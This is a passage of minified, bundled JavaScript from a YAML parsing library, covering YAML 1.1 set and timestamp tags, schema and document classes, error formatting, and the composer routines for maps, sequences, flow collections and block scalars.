Set,nodeClass:Yt,default:!1,tag:"tag:yaml.org,2002:set",createNode:(n,e,t)=>Yt.from(n,e,t),resolve(n,e){if(Zr.isMap(n)){if(n.hasAllNullValues(!0))return Object.assign(new Yt,n);e("Set items must all have null values")}else e("Expected a mapping for this tag");return n}};Gl.YAMLSet=Yt;Gl.set=wS});var Jl=x(Qr=>{"use strict";var vS=An();function zl(n,e){let t=n[0],s=t==="-"||t==="+"?n.substring(1):n,i=o=>e?BigInt(o):Number(o),r=s.replace(/_/g,"").split(":").reduce((o,a)=>o*i(60)+i(a),i(0));return t==="-"?i(-1)*r:r}function sm(n){let{value:e}=n,t=o=>o;if(typeof e=="bigint")t=o=>BigInt(o);else if(isNaN(e)||!isFinite(e))return vS.stringifyNumber(n);let s="";e<0&&(s="-",e*=t(-1));let i=t(60),r=[e%i];return e<60?r.unshift(0):(e=(e-r[0])/i,r.unshift(e%i),e>=60&&(e=(e-r[0])/i,r.unshift(e))),s+r.map(o=>String(o).padStart(2,"0")).join(":").replace(/000000\d*$/,"")}var kS={identify:n=>typeof n=="bigint"||Number.isInteger(n),default:!0,tag:"tag:yaml.org,2002:int",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,resolve:(n,e,{intAsBigInt:t})=>zl(n,t),stringify:sm},xS={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,resolve:n=>zl(n,!1),stringify:sm},im={identify:n=>n instanceof Date,default:!0,tag:"tag:yaml.org,2002:timestamp",test:RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),resolve(n){let e=n.match(im.test);if(!e)throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");let[,t,s,i,r,o,a]=e.map(Number),c=e[7]?Number((e[7]+"00").substr(1,3)):0,l=Date.UTC(t,s-1,i,r||0,o||0,a||0,c),u=e[8];if(u&&u!=="Z"){let p=zl(u,!1);Math.abs(p)<30&&(p*=60),l-=6e4*p}return new Date(l)},stringify:({value:n})=>n?.toISOString().replace(/(T00:00:00)?\.000Z$/,"")??""};Qr.floatTime=xS;Qr.intTime=kS;Qr.timestamp=im});var am=x(om=>{"use strict";var RS=Sn(),OS=qr(),SS=Mn(),MS=Rs(),AS=Il(),rm=Qg(),Kl=em(),eo=nm(),NS=Lr(),ES=Hl(),FS=Vr(),CS=Vl(),Xl=Jl(),LS=[RS.map,SS.seq,MS.string,OS.nullTag,rm.trueTag,rm.falseTag,eo.intBin,eo.intOct,eo.int,eo.intHex,Kl.floatNaN,Kl.floatExp,Kl.float,AS.binary,NS.merge,ES.omap,FS.pairs,CS.set,Xl.intTime,Xl.floatTime,Xl.timestamp];om.schema=LS});var ym=x(eu=>{"use strict";var pm=Sn(),DS=qr(),dm=Mn(),TS=Rs(),jS=Fl(),Zl=Ll(),Ql=Tl(),_S=qg(),$S=Yg(),fm=Il(),Ns=Lr(),gm=Hl(),mm=Vr(),cm=am(),hm=Vl(),to=Jl(),lm=new Map([["core",_S.schema],["failsafe",[pm.map,dm.seq,TS.string]],["json",$S.schema],["yaml11",cm.schema],["yaml-1.1",cm.schema]]),um={binary:fm.binary,bool:jS.boolTag,float:Zl.float,floatExp:Zl.floatExp,floatNaN:Zl.floatNaN,floatTime:to.floatTime,int:Ql.int,intHex:Ql.intHex,intOct:Ql.intOct,intTime:to.intTime,map:pm.map,merge:Ns.merge,null:DS.nullTag,omap:gm.omap,pairs:mm.pairs,seq:dm.seq,set:hm.set,timestamp:to.timestamp},IS={"tag:yaml.org,2002:binary":fm.binary,"tag:yaml.org,2002:merge":Ns.merge,"tag:yaml.org,2002:omap":gm.omap,"tag:yaml.org,2002:pairs":mm.pairs,"tag:yaml.org,2002:set":hm.set,"tag:yaml.org,2002:timestamp":to.timestamp};function PS(n,e,t){let s=lm.get(e);if(s&&!n)return t&&!s.includes(Ns.merge)?s.concat(Ns.merge):s.slice();let i=s;if(!i)if(Array.isArray(n))i=[];else{let r=Array.from(lm.keys()).filter(o=>o!=="yaml11").map(o=>JSON.stringify(o)).join(", ");throw new Error(`Unknown schema "${e}"; use one of ${r} or define customTags array`)}if(Array.isArray(n))for(let r of n)i=i.concat(r);else typeof n=="function"&&(i=n(i.slice()));return t&&(i=i.concat(Ns.merge)),i.reduce((r,o)=>{let a=typeof o=="string"?um[o]:o;if(!a){let c=JSON.stringify(o),l=Object.keys(um).map(u=>JSON.stringify(u)).join(", ");throw new Error(`Unknown custom tag ${c}; use one of ${l}`)}return r.includes(a)||r.push(a),r},[])}eu.coreKnownTags=IS;eu.getTags=PS});var su=x(bm=>{"use strict";var tu=I(),qS=Sn(),US=Mn(),HS=Rs(),no=ym(),YS=(n,e)=>n.key<e.key?-1:n.key>e.key?1:0,nu=class n{constructor({compat:e,customTags:t,merge:s,resolveKnownTags:i,schema:r,sortMapEntries:o,toStringDefaults:a}){this.compat=Array.isArray(e)?no.getTags(e,"compat"):e?no.getTags(null,e):null,this.name=typeof r=="string"&&r||"core",this.knownTags=i?no.coreKnownTags:{},this.tags=no.getTags(t,this.name,s),this.toStringOptions=a??null,Object.defineProperty(this,tu.MAP,{value:qS.map}),Object.defineProperty(this,tu.SCALAR,{value:HS.string}),Object.defineProperty(this,tu.SEQ,{value:US.seq}),this.sortMapEntries=typeof o=="function"?o:o===!0?YS:null}clone(){let e=Object.create(n.prototype,Object.getOwnPropertyDescriptors(this));return e.tags=this.tags.slice(),e}};bm.Schema=nu});var vm=x(wm=>{"use strict";var BS=I(),iu=vs(),Es=hs();function WS(n,e){let t=[],s=e.directives===!0;if(e.directives!==!1&&n.directives){let c=n.directives.toString(n);c?(t.push(c),s=!0):n.directives.docStart&&(s=!0)}s&&t.push("---");let i=iu.createStringifyContext(n,e),{commentString:r}=i.options;if(n.commentBefore){t.length!==1&&t.unshift("");let c=r(n.commentBefore);t.unshift(Es.indentComment(c,""))}let o=!1,a=null;if(n.contents){if(BS.isNode(n.contents)){if(n.contents.spaceBefore&&s&&t.push(""),n.contents.commentBefore){let u=r(n.contents.commentBefore);t.push(Es.indentComment(u,""))}i.forceBlockIndent=!!n.comment,a=n.contents.comment}let c=a?void 0:()=>o=!0,l=iu.stringify(n.contents,i,()=>a=null,c);a&&(l+=Es.lineComment(l,"",r(a))),(l[0]==="|"||l[0]===">")&&t[t.length-1]==="---"?t[t.length-1]=`--- ${l}`:t.push(l)}else t.push(iu.stringify(n.contents,i));if(n.directives?.docEnd)if(n.comment){let c=r(n.comment);c.includes(`
+`)?(t.push("..."),t.push(Es.indentComment(c,""))):t.push(`... ${c}`)}else t.push("...");else{let c=n.comment;c&&o&&(c=c.replace(/^\n+/,"")),c&&((!o||a)&&t[t.length-1]!==""&&t.push(""),t.push(Es.indentComment(r(c),"")))}return t.join(`
+`)+`
+`}wm.stringifyDocument=WS});var Fs=x(km=>{"use strict";var GS=gs(),Nn=xr(),De=I(),VS=wt(),zS=mt(),JS=su(),KS=vm(),ru=br(),XS=ll(),ZS=ms(),ou=cl(),au=class n{constructor(e,t,s){this.commentBefore=null,this.comment=null,this.errors=[],this.warnings=[],Object.defineProperty(this,De.NODE_TYPE,{value:De.DOC});let i=null;typeof t=="function"||Array.isArray(t)?i=t:s===void 0&&t&&(s=t,t=void 0);let r=Object.assign({intAsBigInt:!1,keepSourceTokens:!1,logLevel:"warn",prettyErrors:!0,strict:!0,stringKeys:!1,uniqueKeys:!0,version:"1.2"},s);this.options=r;let{version:o}=r;s?._directives?(this.directives=s._directives.atDocument(),this.directives.yaml.explicit&&(o=this.directives.yaml.version)):this.directives=new ou.Directives({version:o}),this.setSchema(o,s),this.contents=e===void 0?null:this.createNode(e,i,s)}clone(){let e=Object.create(n.prototype,{[De.NODE_TYPE]:{value:De.DOC}});return e.commentBefore=this.commentBefore,e.comment=this.comment,e.errors=this.errors.slice(),e.warnings=this.warnings.slice(),e.options=Object.assign({},this.options),this.directives&&(e.directives=this.directives.clone()),e.schema=this.schema.clone(),e.contents=De.isNode(this.contents)?this.contents.clone(e.schema):this.contents,this.range&&(e.range=this.range.slice()),e}add(e){En(this.contents)&&this.contents.add(e)}addIn(e,t){En(this.contents)&&this.contents.addIn(e,t)}createAlias(e,t){if(!e.anchor){let s=ru.anchorNames(this);e.anchor=!t||s.has(t)?ru.findNewAnchor(t||"a",s):t}return new GS.Alias(e.anchor)}createNode(e,t,s){let i;if(typeof t=="function")e=t.call({"":e},"",e),i=t;else if(Array.isArray(t)){let h=w=>typeof w=="number"||w instanceof String||w instanceof Number,y=t.filter(h).map(String);y.length>0&&(t=t.concat(y)),i=t}else s===void 0&&t&&(s=t,t=void 0);let{aliasDuplicateObjects:r,anchorPrefix:o,flow:a,keepUndefined:c,onTagObj:l,tag:u}=s??{},{onAnchor:p,setAnchors:d,sourceObjects:f}=ru.createNodeAnchors(this,o||"a"),m={aliasDuplicateObjects:r??!0,keepUndefined:c??!1,onAnchor:p,onTagObj:l,replacer:i,schema:this.schema,sourceObjects:f},g=ZS.createNode(e,u,m);return a&&De.isCollection(g)&&(g.flow=!0),d(),g}createPair(e,t,s={}){let i=this.createNode(e,null,s),r=this.createNode(t,null,s);return new VS.Pair(i,r)}delete(e){return En(this.contents)?this.contents.delete(e):!1}deleteIn(e){return Nn.isEmptyPath(e)?this.contents==null?!1:(this.contents=null,!0):En(this.contents)?this.contents.deleteIn(e):!1}get(e,t){return De.isCollection(this.contents)?this.contents.get(e,t):void 0}getIn(e,t){return Nn.isEmptyPath(e)?!t&&De.isScalar(this.contents)?this.contents.value:this.contents:De.isCollection(this.contents)?this.contents.getIn(e,t):void 0}has(e){return De.isCollection(this.contents)?this.contents.has(e):!1}hasIn(e){return Nn.isEmptyPath(e)?this.contents!==void 0:De.isCollection(this.contents)?this.contents.hasIn(e):!1}set(e,t){this.contents==null?this.contents=Nn.collectionFromPath(this.schema,[e],t):En(this.contents)&&this.contents.set(e,t)}setIn(e,t){Nn.isEmptyPath(e)?this.contents=t:this.contents==null?this.contents=Nn.collectionFromPath(this.schema,Array.from(e),t):En(this.contents)&&this.contents.setIn(e,t)}setSchema(e,t={}){typeof e=="number"&&(e=String(e));let s;switch(e){case"1.1":this.directives?this.directives.yaml.version="1.1":this.directives=new ou.Directives({version:"1.1"}),s={resolveKnownTags:!1,schema:"yaml-1.1"};break;case"1.2":case"next":this.directives?this.directives.yaml.version=e:this.directives=new ou.Directives({version:e}),s={resolveKnownTags:!0,schema:"core"};break;case null:this.directives&&delete this.directives,s=null;break;default:{let i=JSON.stringify(e);throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${i}`)}}if(t.schema instanceof Object)this.schema=t.schema;else if(s)this.schema=new JS.Schema(Object.assign(s,t));else throw new Error("With a null YAML version, the { schema: Schema } option is required")}toJS({json:e,jsonArg:t,mapAsMap:s,maxAliasCount:i,onAnchor:r,reviver:o}={}){let a={anchors:new Map,doc:this,keep:!e,mapAsMap:s===!0,mapKeyWarned:!1,maxAliasCount:typeof i=="number"?i:100},c=zS.toJS(this.contents,t??"",a);if(typeof r=="function")for(let{count:l,res:u}of a.anchors.values())r(u,l);return typeof o=="function"?XS.applyReviver(o,{"":c},"",c):c}toJSON(e,t){return this.toJS({json:!0,jsonArg:e,mapAsMap:!1,onAnchor:t})}toString(e={}){if(this.errors.length>0)throw new Error("Document with errors cannot be stringified");if("indent"in e&&(!Number.isInteger(e.indent)||Number(e.indent)<=0)){let t=JSON.stringify(e.indent);throw new Error(`"indent" option must be a positive integer, not ${t}`)}return KS.stringifyDocument(this,e)}};function En(n){if(De.isCollection(n))return!0;throw new Error("Expected a YAML collection as document contents")}km.Document=au});var Ds=x(Ls=>{"use strict";var Cs=class extends Error{constructor(e,t,s,i){super(),this.name=e,this.code=s,this.message=i,this.pos=t}},cu=class extends Cs{constructor(e,t,s){super("YAMLParseError",e,t,s)}},lu=class extends Cs{constructor(e,t,s){super("YAMLWarning",e,t,s)}},QS=(n,e)=>t=>{if(t.pos[0]===-1)return;t.linePos=t.pos.map(a=>e.linePos(a));let{line:s,col:i}=t.linePos[0];t.message+=` at line ${s}, column ${i}`;let r=i-1,o=n.substring(e.lineStarts[s-1],e.lineStarts[s]).replace(/[\n\r]+$/,"");if(r>=60&&o.length>80){let a=Math.min(r-39,o.length-79);o="\u2026"+o.substring(a),r-=a-1}if(o.length>80&&(o=o.substring(0,79)+"\u2026"),s>1&&/^ *$/.test(o.substring(0,r))){let a=n.substring(e.lineStarts[s-2],e.lineStarts[s-1]);a.length>80&&(a=a.substring(0,79)+`\u2026
+`),o=a+o}if(/[^ ]/.test(o)){let a=1,c=t.linePos[1];c?.line===s&&c.col>i&&(a=Math.max(1,Math.min(c.col-i,80-r)));let l=" ".repeat(r)+"^".repeat(a);t.message+=`:
+
+${o}
+${l}
+`}};Ls.YAMLError=Cs;Ls.YAMLParseError=cu;Ls.YAMLWarning=lu;Ls.prettifyError=QS});var Ts=x(xm=>{"use strict";function eM(n,{flow:e,indicator:t,next:s,offset:i,onError:r,parentIndent:o,startOnNewline:a}){let c=!1,l=a,u=a,p="",d="",f=!1,m=!1,g=null,h=null,y=null,w=null,k=null,v=null,O=null;for(let S of n)switch(m&&(S.type!=="space"&&S.type!=="newline"&&S.type!=="comma"&&r(S.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),m=!1),g&&(l&&S.type!=="comment"&&S.type!=="newline"&&r(g,"TAB_AS_INDENT","Tabs are not allowed as indentation"),g=null),S.type){case"space":!e&&(t!=="doc-start"||s?.type!=="flow-collection")&&S.source.includes("	")&&(g=S),u=!0;break;case"comment":{u||r(S,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let q=S.source.substring(1)||" ";p?p+=d+q:p=q,d="",l=!1;break}case"newline":l?p?p+=S.source:(!v||t!=="seq-item-ind")&&(c=!0):d+=S.source,l=!0,f=!0,(h||y)&&(w=S),u=!0;break;case"anchor":h&&r(S,"MULTIPLE_ANCHORS","A node can have at most one anchor"),S.source.endsWith(":")&&r(S.offset+S.source.length-1,"BAD_ALIAS","Anchor ending in : is ambiguous",!0),h=S,O??(O=S.offset),l=!1,u=!1,m=!0;break;case"tag":{y&&r(S,"MULTIPLE_TAGS","A node can have at most one tag"),y=S,O??(O=S.offset),l=!1,u=!1,m=!0;break}case t:(h||y)&&r(S,"BAD_PROP_ORDER",`Anchors and tags must be after the ${S.source} indicator`),v&&r(S,"UNEXPECTED_TOKEN",`Unexpected ${S.source} in ${e??"collection"}`),v=S,l=t==="seq-item-ind"||t==="explicit-key-ind",u=!1;break;case"comma":if(e){k&&r(S,"UNEXPECTED_TOKEN",`Unexpected , in ${e}`),k=S,l=!1,u=!1;break}default:r(S,"UNEXPECTED_TOKEN",`Unexpected ${S.type} token`),l=!1,u=!1}let R=n[n.length-1],M=R?R.offset+R.source.length:i;return m&&s&&s.type!=="space"&&s.type!=="newline"&&s.type!=="comma"&&(s.type!=="scalar"||s.source!=="")&&r(s.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),g&&(l&&g.indent<=o||s?.type==="block-map"||s?.type==="block-seq")&&r(g,"TAB_AS_INDENT","Tabs are not allowed as indentation"),{comma:k,found:v,spaceBefore:c,comment:p,hasNewline:f,anchor:h,tag:y,newlineAfterProp:w,end:M,start:O??M}}xm.resolveProps=eM});var so=x(Rm=>{"use strict";function uu(n){if(!n)return null;switch(n.type){case"alias":case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":if(n.source.includes(`
+`))return!0;if(n.end){for(let e of n.end)if(e.type==="newline")return!0}return!1;case"flow-collection":for(let e of n.items){for(let t of e.start)if(t.type==="newline")return!0;if(e.sep){for(let t of e.sep)if(t.type==="newline")return!0}if(uu(e.key)||uu(e.value))return!0}return!1;default:return!0}}Rm.containsNewline=uu});var pu=x(Om=>{"use strict";var tM=so();function nM(n,e,t){if(e?.type==="flow-collection"){let s=e.end[0];s.indent===n&&(s.source==="]"||s.source==="}")&&tM.containsNewline(e)&&t(s,"BAD_INDENT","Flow end indicator should be more indented than parent",!0)}}Om.flowIndentCheck=nM});var du=x(Mm=>{"use strict";var Sm=I();function sM(n,e,t){let{uniqueKeys:s}=n.options;if(s===!1)return!1;let i=typeof s=="function"?s:(r,o)=>r===o||Sm.isScalar(r)&&Sm.isScalar(o)&&r.value===o.value;return e.some(r=>i(r.key,t))}Mm.mapIncludes=sM});var Lm=x(Cm=>{"use strict";var Am=wt(),iM=kt(),Nm=Ts(),rM=so(),Em=pu(),oM=du(),Fm="All mapping items must start at the same column";function aM({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=r?.nodeClass??iM.YAMLMap,a=new o(t.schema);t.atRoot&&(t.atRoot=!1);let c=s.offset,l=null;for(let u of s.items){let{start:p,key:d,sep:f,value:m}=u,g=Nm.resolveProps(p,{indicator:"explicit-key-ind",next:d??f?.[0],offset:c,onError:i,parentIndent:s.indent,startOnNewline:!0}),h=!g.found;if(h){if(d&&(d.type==="block-seq"?i(c,"BLOCK_AS_IMPLICIT_KEY","A block sequence may not be used as an implicit map key"):"indent"in d&&d.indent!==s.indent&&i(c,"BAD_INDENT",Fm)),!g.anchor&&!g.tag&&!f){l=g.end,g.comment&&(a.comment?a.comment+=`
+`+g.comment:a.comment=g.comment);continue}(g.newlineAfterProp||rM.containsNewline(d))&&i(d??p[p.length-1],"MULTILINE_IMPLICIT_KEY","Implicit keys need to be on a single line")}else g.found?.indent!==s.indent&&i(c,"BAD_INDENT",Fm);t.atKey=!0;let y=g.end,w=d?n(t,d,g,i):e(t,y,p,null,g,i);t.schema.compat&&Em.flowIndentCheck(s.indent,d,i),t.atKey=!1,oM.mapIncludes(t,a.items,w)&&i(y,"DUPLICATE_KEY","Map keys must be unique");let k=Nm.resolveProps(f??[],{indicator:"map-value-ind",next:m,offset:w.range[2],onError:i,parentIndent:s.indent,startOnNewline:!d||d.type==="block-scalar"});if(c=k.end,k.found){h&&(m?.type==="block-map"&&!k.hasNewline&&i(c,"BLOCK_AS_IMPLICIT_KEY","Nested mappings are not allowed in compact mappings"),t.options.strict&&g.start<k.found.offset-1024&&i(w.range,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit block mapping key"));let v=m?n(t,m,k,i):e(t,c,f,null,k,i);t.schema.compat&&Em.flowIndentCheck(s.indent,m,i),c=v.range[2];let O=new Am.Pair(w,v);t.options.keepSourceTokens&&(O.srcToken=u),a.items.push(O)}else{h&&i(w.range,"MISSING_CHAR","Implicit map keys need to be followed by map values"),k.comment&&(w.comment?w.comment+=`
+`+k.comment:w.comment=k.comment);let v=new Am.Pair(w);t.options.keepSourceTokens&&(v.srcToken=u),a.items.push(v)}}return l&&l<c&&i(l,"IMPOSSIBLE","Map comment with trailing content"),a.range=[s.offset,c,l??c],a}Cm.resolveBlockMap=aM});var Tm=x(Dm=>{"use strict";var cM=xt(),lM=Ts(),uM=pu();function pM({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=r?.nodeClass??cM.YAMLSeq,a=new o(t.schema);t.atRoot&&(t.atRoot=!1),t.atKey&&(t.atKey=!1);let c=s.offset,l=null;for(let{start:u,value:p}of s.items){let d=lM.resolveProps(u,{indicator:"seq-item-ind",next:p,offset:c,onError:i,parentIndent:s.indent,startOnNewline:!0});if(!d.found)if(d.anchor||d.tag||p)p?.type==="block-seq"?i(d.end,"BAD_INDENT","All sequence items must start at the same column"):i(c,"MISSING_CHAR","Sequence item without - indicator");else{l=d.end,d.comment&&(a.comment=d.comment);continue}let f=p?n(t,p,d,i):e(t,d.end,u,null,d,i);t.schema.compat&&uM.flowIndentCheck(s.indent,p,i),c=f.range[2],a.items.push(f)}return a.range=[s.offset,c,l??c],a}Dm.resolveBlockSeq=pM});var Fn=x(jm=>{"use strict";function dM(n,e,t,s){let i="";if(n){let r=!1,o="";for(let a of n){let{source:c,type:l}=a;switch(l){case"space":r=!0;break;case"comment":{t&&!r&&s(a,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let u=c.substring(1)||" ";i?i+=o+u:i=u,o="";break}case"newline":i&&(o+=c),r=!0;break;default:s(a,"UNEXPECTED_TOKEN",`Unexpected ${l} at node end`)}e+=c.length}}return{comment:i,offset:e}}jm.resolveEnd=dM});var Pm=x(Im=>{"use strict";var fM=I(),gM=wt(),_m=kt(),mM=xt(),hM=Fn(),$m=Ts(),yM=so(),bM=du(),fu="Block collections are not allowed within flow collections",gu=n=>n&&(n.type==="block-map"||n.type==="block-seq");function wM({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=s.start.source==="{",a=o?"flow map":"flow sequence",c=r?.nodeClass??(o?_m.YAMLMap:mM.YAMLSeq),l=new c(t.schema);l.flow=!0;let u=t.atRoot;u&&(t.atRoot=!1),t.atKey&&(t.atKey=!1);let p=s.offset+s.start.source.length;for(let h=0;h<s.items.length;++h){let y=s.items[h],{start:w,key:k,sep:v,value:O}=y,R=$m.resolveProps(w,{flow:a,indicator:"explicit-key-ind",next:k??v?.[0],offset:p,onError:i,parentIndent:s.indent,startOnNewline:!1});if(!R.found){if(!R.anchor&&!R.tag&&!v&&!O){h===0&&R.comma?i(R.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`):h<s.items.length-1&&i(R.start,"UNEXPECTED_TOKEN",`Unexpected empty item in ${a}`),R.comment&&(l.comment?l.comment+=`
+`+R.comment:l.comment=R.comment),p=R.end;continue}!o&&t.options.strict&&yM.containsNewline(k)&&i(k,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line")}if(h===0)R.comma&&i(R.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`);else if(R.comma||i(R.start,"MISSING_CHAR",`Missing , between ${a} items`),R.comment){let M="";e:for(let S of w)switch(S.type){case"comma":case"space":break;case"comment":M=S.source.substring(1);break e;default:break e}if(M){let S=l.items[l.items.length-1];fM.isPair(S)&&(S=S.value??S.key),S.comment?S.comment+=`
+`+M:S.comment=M,R.comment=R.comment.substring(M.length+1)}}if(!o&&!v&&!R.found){let M=O?n(t,O,R,i):e(t,R.end,v,null,R,i);l.items.push(M),p=M.range[2],gu(O)&&i(M.range,"BLOCK_IN_FLOW",fu)}else{t.atKey=!0;let M=R.end,S=k?n(t,k,R,i):e(t,M,w,null,R,i);gu(k)&&i(S.range,"BLOCK_IN_FLOW",fu),t.atKey=!1;let q=$m.resolveProps(v??[],{flow:a,indicator:"map-value-ind",next:O,offset:S.range[2],onError:i,parentIndent:s.indent,startOnNewline:!1});if(q.found){if(!o&&!R.found&&t.options.strict){if(v)for(let ee of v){if(ee===q.found)break;if(ee.type==="newline"){i(ee,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");break}}R.start<q.found.offset-1024&&i(q.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else O&&("source"in O&&O.source?.[0]===":"?i(O,"MISSING_CHAR",`Missing space after : in ${a}`):i(q.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let re=O?n(t,O,q,i):q.found?e(t,q.end,v,null,q,i):null;re?gu(O)&&i(re.range,"BLOCK_IN_FLOW",fu):q.comment&&(S.comment?S.comment+=`
+`+q.comment:S.comment=q.comment);let lt=new gM.Pair(S,re);if(t.options.keepSourceTokens&&(lt.srcToken=y),o){let ee=l;bM.mapIncludes(t,ee.items,S)&&i(M,"DUPLICATE_KEY","Map keys must be unique"),ee.items.push(lt)}else{let ee=new _m.YAMLMap(t.schema);ee.flow=!0,ee.items.push(lt);let lp=(re??S).range;ee.range=[S.range[0],lp[1],lp[2]],l.items.push(ee)}p=re?re.range[2]:q.end}}let d=o?"}":"]",[f,...m]=s.end,g=p;if(f?.source===d)g=f.offset+f.source.length;else{let h=a[0].toUpperCase()+a.substring(1),y=u?`${h} must end with a ${d}`:`${h} in block collection must be sufficiently indented and end with a ${d}`;i(p,u?"MISSING_CHAR":"BAD_INDENT",y),f&&f.source.length!==1&&m.unshift(f)}if(m.length>0){let h=hM.resolveEnd(m,g,t.options.strict,i);h.comment&&(l.comment?l.comment+=`
+`+h.comment:l.comment=h.comment),l.range=[s.offset,g,h.offset]}else l.range=[s.offset,g,g];return l}Im.resolveFlowCollection=wM});var Um=x(qm=>{"use strict";var vM=I(),kM=Q(),xM=kt(),RM=xt(),OM=Lm(),SM=Tm(),MM=Pm();function mu(n,e,t,s,i,r){let o=t.type==="block-map"?OM.resolveBlockMap(n,e,t,s,r):t.type==="block-seq"?SM.resolveBlockSeq(n,e,t,s,r):MM.resolveFlowCollection(n,e,t,s,r),a=o.constructor;return i==="!"||i===a.tagName?(o.tag=a.tagName,o):(i&&(o.tag=i),o)}function AM(n,e,t,s,i){let r=s.tag,o=r?e.directives.tagName(r.source,d=>i(r,"TAG_RESOLVE_FAILED",d)):null;if(t.type==="block-seq"){let{anchor:d,newlineAfterProp:f}=s,m=d&&r?d.offset>r.offset?d:r:d??r;m&&(!f||f.offset<m.offset)&&i(m,"MISSING_CHAR","Missing newline after block sequence props")}let a=t.type==="block-map"?"map":t.type==="block-seq"?"seq":t.start.source==="{"?"map":"seq";if(!r||!o||o==="!"||o===xM.YAMLMap.tagName&&a==="map"||o===RM.YAMLSeq.tagName&&a==="seq")return mu(n,e,t,i,o);let c=e.schema.tags.find(d=>d.tag===o&&d.collection===a);if(!c){let d=e.schema.knownTags[o];if(d?.collection===a)e.schema.tags.push(Object.assign({},d,{default:!1})),c=d;else return d?i(r,"BAD_COLLECTION_TYPE",`${d.tag} used for ${a} collection, but expects ${d.collection??"scalar"}`,!0):i(r,"TAG_RESOLVE_FAILED",`Unresolved tag: ${o}`,!0),mu(n,e,t,i,o)}let l=mu(n,e,t,i,o,c),u=c.resolve?.(l,d=>i(r,"TAG_RESOLVE_FAILED",d),e.options)??l,p=vM.isNode(u)?u:new kM.Scalar(u);return p.range=l.range,p.tag=o,c?.format&&(p.format=c.format),p}qm.composeCollection=AM});var yu=x(Hm=>{"use strict";var hu=Q();function NM(n,e,t){let s=e.offset,i=EM(e,n.options.strict,t);if(!i)return{value:"",type:null,comment:"",range:[s,s,s]};let r=i.mode===">"?hu.Scalar.BLOCK_FOLDED:hu.Scalar.BLOCK_LITERAL,o=e.source?FM(e.source):[],a=o.length;for(let g=o.length-1;g>=0;--g){let h=o[g][1];if(h===""||h==="\r")a=g;else break}if(a===0){let g=i.chomp==="+"&&o.length>0?`
+`.repeat(Math.max(1,o.length-1)):"",h=s+i.length;return e.source&&(h+=e.source.length),{value:g,type:r,comment:i.comment,range:[s,h,h]}}let c=e.indent+i.indent,l=e.offset+i.length,u=0;for(let g=0;g<a;++g){let[h,y]=o[g];if(y===""||y==="\r")i.indent===0&&h.length>c&&(c=h.length);else{h.length<c&&t(l+h.length,"MISSING_CHAR","Block scalars with more-indented leading empty lines must use an explicit indentation indicator"),i.indent===0&&(c=h.length),u=g,c===0&&!n.atRoot&&t(l,"BAD_INDENT","Block scalar values in collections must be indented");break}l+=h.length+y.length+1}for(let g=o.length-1;g>=a;--g)o[g][0].length>c&&(a=g+1);let p="",d="",f=!1;for(let g=0;g<u;++g)p+=o[g][0].slice(c)+`
+`;for(let g=u;g<a;++g){let[h,y]=o[g];l+=h.length+y.length+1;let w=y[y.length-1]==="\r";if(w&&(y=y.slice(0,-1)),y&&h.length<c){let v=`Block scalar lines must not be less indented than their ${i.indent?"explicit indentation indicator":"first line"}`;t(l-y.length-(w?2:1),"BAD_INDENT",v),h=""}r===hu.Scalar.BLOCK_LITERAL?(p+=d+h.slice(c)+y,d=`
+`):h.length>c||y[0]==="	"?(d===" "?d=`
+`:!f&&d===`
+`&&(d=`
+
+`),p+=d+h.slice(c)+y,d=`
+`,f=!0):y===""?d===`
+`?p+=`
+`:d=`
+`:(p+=d+y,d=" ",f=!1)}switch(i.chomp){case"-":break;case"+":for(let g=a;g<o.length;++g)p+=`
+`+o[g][0].slice(c);p[p.length-1]!==`
+`&&(p+=`
+`);break;default:p+=`
+`}let m=s+i.length+e.source.length;return{value:p,type:r,comment:i.comment,range:[s,m,m]}}function EM({offset:n,props:e},t,s){if(e[0].type!=="block-scalar-header")return s(e[0],"IMPOSSIBLE","Block scalar header not found"),null;let{source:i}=e[0],r=i[0],o=0,a="",c=-1;for(let d=1;d<i.length;++d){let f=i[d];if(!a&&(f==="-"||f==="+"))a=f;else{let m=Number(f);!o&&m?o=m:c===-1&&(c=n+d)}}c!==-1&&s(c,"UNEXPECTED_TOKEN",`Block scalar header includes extra characters: ${i}`);let l=!1,u="",p=i.length;for(let d=1;d<e.length;++d){let f=e[d];switch(f.type){case"space":l=!0;case"newline":p+=f.source.length;break;case"comment":t&&!l&&s(f,"MISSING_CHAR","Comments must be separated from other tokens by white space characters"),p+=f.source.length,u=f.source.substring(1);break;case"error":s(f,"UNEXPECTED_TOKEN",f.message),p+=f.source.length;break;default:{let m=`Unexpected token in block scalar header: ${f.type}`;s(f,"UNEXPECTED_TOKEN",m);let g=f.source;g&&typeof g=="string"&&(p+=g.length)}}}return{mode:r,indent:o,chomp:a,comment:u,length:p}}function FM(n){let e=n.split(/\n( *)/),t=e[0],s=t.match(/^( *)/),r=[s?.[1]?[s[1],t.slice(s[1].length)]:["",t]];for(let o=1;o<e.length;o+=2)r.push([e[o],e[o+1]]);return r}Hm.resolveBlockScalar=NM});var wu=x(Bm=>{"use strict";var bu=Q(),CM=Fn();function 